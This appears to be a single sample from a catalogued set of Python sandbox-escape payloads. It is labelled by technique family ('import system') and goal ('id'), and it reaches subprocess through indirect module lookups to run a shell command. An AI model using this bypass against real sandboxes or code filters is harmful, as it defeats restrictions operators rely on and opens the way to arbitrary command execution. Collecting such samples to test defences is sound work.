# family: import system (importlib loads a module by name)   goal: id
import random
importlib = random._os.sys.modules.get("importlib") or random.__builtins__["__import__"]("importlib")
importlib.import_module("subprocess").run(["id"])
